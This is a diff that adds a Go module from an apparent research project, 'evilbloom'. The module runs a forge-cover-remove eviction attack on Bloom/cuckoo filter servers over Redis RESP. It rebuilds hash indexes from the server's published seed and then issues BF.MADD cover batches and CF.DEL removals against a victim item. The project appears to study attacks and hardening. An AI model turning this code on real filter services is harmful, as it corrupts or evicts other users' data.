@@ -1,0 +1,133 @@
+package respcampaign
+
+import (
+	"fmt"
+	"time"
+
+	"evilbloom/internal/attack"
+	"evilbloom/internal/hashes"
+	"evilbloom/internal/resp"
+)
+
+// Deletion drives the §4.3 targeted-eviction campaign over the binary RESP
+// plane: the same forge-cover-remove rounds as the HTTP adversary
+// (attack.RemoteDeletion), with cover batches shipped as one pipelined
+// BF.MADD and removals as CF.DEL. Against a hardened server the crafted
+// removal items are almost never false positives on the real counters, so
+// every CF.DEL answers :0 — the campaign reports 100% refusals and the
+// victim stays present.
+type Deletion struct {
+	// Addr is the server's RESP address (host:port).
+	Addr string
+	// Filter is the target filter name.
+	Filter string
+	// PerItemBudget bounds candidate generation per forged item (0 is
+	// unbounded).
+	PerItemBudget uint64
+	// MaxRounds bounds the forge-cover-remove rounds.
+	MaxRounds int
+	// Traffic generates forgery candidates (e.g. urlgen).
+	Traffic attack.Generator
+	// Family overrides the index family — the hardened adversary's guess.
+	// When nil the campaign reconstructs it from BF.INFO's published
+	// parameters, refusing if the server publishes no seed.
+	Family hashes.IndexFamily
+}
+
+// DeletionReport is the campaign outcome plus the adversary's work counters.
+type DeletionReport struct {
+	attack.EvictReport
+	// Attempts counts forgery candidates examined.
+	Attempts uint64
+	// Elapsed is the campaign wall time.
+	Elapsed time.Duration
+}
+
+// respDeletionOps adapts one RESP connection to attack.DeletionOps. Test
+// and Remove are synchronous round trips (each round's next step depends on
+// the answer); AddBatch ships a whole cover set as one pipelined BF.MADD.
+type respDeletionOps struct {
+	cli    *resp.Client
+	filter string
+}
+
+func (o *respDeletionOps) Test(item []byte) (bool, error) {
+	reply, err := o.cli.Do("BF.EXISTS", o.filter, string(item))
+	if err != nil {
+		return false, err
+	}
+	if err := reply.Err(); err != nil {
+		return false, fmt.Errorf("respcampaign: BF.EXISTS: %w", err)
+	}
+	return reply.Int == 1, nil
+}
+
+func (o *respDeletionOps) AddBatch(items [][]byte) error {
+	o.cli.SendItems("BF.MADD", o.filter, items)
+	if err := o.cli.Flush(); err != nil {
+		return err
+	}
+	reply, err := o.cli.Receive()
+	if err != nil {
+		return err
+	}
+	if err := reply.Err(); err != nil {
+		return fmt.Errorf("respcampaign: BF.MADD: %w", err)
+	}
+	return nil
+}
+
+func (o *respDeletionOps) Remove(item []byte) (bool, error) {
+	reply, err := o.cli.Do("CF.DEL", o.filter, string(item))
+	if err != nil {
+		return false, err
+	}
+	if err := reply.Err(); err != nil {
+		return false, fmt.Errorf("respcampaign: CF.DEL: %w", err)
+	}
+	return reply.Int == 1, nil
+}
+
+// Run executes the eviction campaign against victim and reports the
+// outcome; like the HTTP campaign, a server that resists (the hardened
+// refusal wall) is a result, not an error.
+func (c *Deletion) Run(victim []byte) (*DeletionReport, error) {
+	if c.Traffic == nil {
+		return nil, fmt.Errorf("respcampaign: Deletion needs a Traffic generator")
+	}
+	maxRounds := c.MaxRounds
+	if maxRounds <= 0 {
+		maxRounds = 64
+	}
+	cli, err := resp.Dial(c.Addr)
+	if err != nil {
+		return nil, err
+	}
+	defer cli.Close()
+
+	fam := c.Family
+	if fam == nil {
+		info, err := fetchRESPInfo(cli, c.Filter)
+		if err != nil {
+			return nil, err
+		}
+		if info.seed == nil {
+			return nil, fmt.Errorf("respcampaign: server mode %q publishes no seed; indexes are not predictable", info.mode)
+		}
+		if fam, err = hashes.NewDoubleHashing(int(info.k), uint64(info.shardBits), uint64(*info.seed)); err != nil {
+			return nil, err
+		}
+	}
+
+	adv := attack.NewRemoteDeletion(&respDeletionOps{cli: cli, filter: c.Filter}, fam, c.Traffic)
+	start := time.Now()
+	rep, err := adv.Evict(victim, c.PerItemBudget, maxRounds)
+	if err != nil {
+		return nil, err
+	}
+	return &DeletionReport{
+		EvictReport: *rep,
+		Attempts:    adv.Attempts,
+		Elapsed:     time.Since(start),
+	}, nil
+}
